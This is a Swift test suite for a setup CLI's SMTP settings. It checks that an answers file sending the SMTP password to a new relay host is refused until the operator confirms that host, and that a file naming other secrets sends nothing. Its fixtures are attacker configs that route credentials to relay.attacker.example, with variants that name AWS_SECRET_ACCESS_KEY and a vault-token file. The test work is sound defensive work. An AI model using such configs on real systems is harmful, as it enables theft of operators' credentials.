import Foundation
import Testing
import TestSupport
import TFEClient
import TFESandbox

/// Where the SMTP password may come from and where it may go: an answers file names only an
/// `SMTP_…`/`TFE_SETUP_…` variable, a password file only on the command line, and a password on
/// its way to a relay host the server does not use yet needs the operator's `--smtp-relay` when
/// nobody is asked.
extension TerminalSuite {
@Suite("The SMTP password's source and relay")
struct RelayConfirmationTests {

    static let attacker = #"{"organization":"my-org","smtp":{"enabled":true,"host":"relay.attacker.example","port":25,"sender":"x@attacker.example","auth":"login","username":"u","password_env":"SMTP_PASSWORD"}}"#

    static func smtpPatches(_ server: SandboxServer) async -> Int {
        await server.store.requestLog.filter { $0.method == "PATCH" && $0.path == "/api/v2/admin/smtp-settings" }.count
    }

    @Test("apply --auto-approve of a file that sends the password to a new relay host: refused until --smtp-relay names that host")
    func newRelayNeedsConfirmation() async throws {
        try await CLI.with { server, dir in
            let file = CLI.write(dir, "attacker.json", Self.attacker)
            let plan = await CLI.run(server, dir, ["plan", "--answers", file])
            #expect(plan.status == 2, "\(plan.output)")
            #expect(plan.output.contains("Warning: the password goes to relay.attacker.example, a relay this server does not use (it has none yet)"), "\(plan.output)")
            #expect(plan.output.contains("needs --smtp-relay relay.attacker.example"), "\(plan.output)")

            let refused = await CLI.run(server, dir, ["apply", "--answers", file, "--auto-approve"])
            #expect(refused.status == 1, "\(refused.output)")
            #expect(refused.output.contains("nothing applied: the answers file sends the SMTP password to relay.attacker.example"), "\(refused.output)")
            #expect(refused.output.contains("confirm it with --smtp-relay relay.attacker.example"), "\(refused.output)")
            let other = await CLI.run(server, dir, ["apply", "--answers", file, "--auto-approve", "--smtp-relay", "smtp.example.com"])
            #expect(other.status == 1 && other.output.contains("--smtp-relay names smtp.example.com, but the answers file sends the SMTP password to relay.attacker.example"), "\(other.output)")
            #expect(await Self.smtpPatches(server) == 0, "no password left for the relay")
            #expect(!refused.output.contains("fake-auto-pw-8") && !other.output.contains("fake-auto-pw-8"))

            let confirmed = await CLI.run(server, dir, ["apply", "--answers", file, "--auto-approve", "--smtp-relay", "RELAY.attacker.example"])
            #expect(confirmed.status == 0, "\(confirmed.output)")
            #expect(await Self.smtpPatches(server) == 1)
            #expect(await server.store.state.smtp.host == "relay.attacker.example")

            // The host is now the server's own: sending the password there again needs no flag.
            let again = await CLI.run(server, dir, ["apply", "--answers", file, "--auto-approve"])
            #expect(again.status == 0, "\(again.output)")
        }
    }

    @Test("a file naming another secret's variable or a password file sends nothing, even with --auto-approve")
    func otherSecretsStayHome() async throws {
        try await CLI.with { server, dir in
            let secret = dir + "/vault-token"
            _ = FileManager.default.createFile(atPath: secret, contents: Data("fake-vault-token-canary\n".utf8), attributes: [.posixPermissions: 0o600])
            let byVariable = CLI.write(dir, "aws.json", Self.attacker.replacingOccurrences(of: "SMTP_PASSWORD", with: "AWS_SECRET_ACCESS_KEY"))
            let byFile = CLI.write(dir, "file.json", Self.attacker.replacingOccurrences(of: #""password_env":"SMTP_PASSWORD""#, with: #""password_file":"\#(secret)""#))
            for (file, why) in [(byVariable, "may name only variables called SMTP_… or TFE_SETUP_…"), (byFile, "named on the command line only")] {
                let r = await CLI.run(server, dir, ["apply", "--answers", file, "--auto-approve", "--smtp-relay", "relay.attacker.example"],
                                       env: ["AWS_SECRET_ACCESS_KEY": "fake-aws-secret-canary"])
                #expect(r.status == 1, "\(r.output)")
                #expect(r.output.contains(why), "\(r.output)")
                #expect(!r.output.contains("fake-aws-secret-canary") && !r.output.contains("fake-vault-token-canary"))
            }
            #expect(await server.store.requestLog.isEmpty, "refused before any request")

            // The operator names the password file on the command line: that is accepted.
            let relay = dir + "/relay-password"
            _ = FileManager.default.createFile(atPath: relay, contents: Data("fake-relay-pw-9\n".utf8), attributes: [.posixPermissions: 0o600])
            let noSource = CLI.write(dir, "nosource.json", Self.attacker.replacingOccurrences(of: #","password_env":"SMTP_PASSWORD""#, with: ""))
            let r = await CLI.run(server, dir, ["apply", "--answers", noSource, "--smtp-password-file", relay, "--auto-approve", "--smtp-relay", "relay.attacker.example"], env: [:])
            #expect(r.status == 0, "\(r.output)")
            #expect(r.output.contains("from --smtp-password-file \(relay)"), "the plan names the source: \(r.output)")
            #expect(await server.store.state.smtp.passwordSet)
        }
    }
}
}
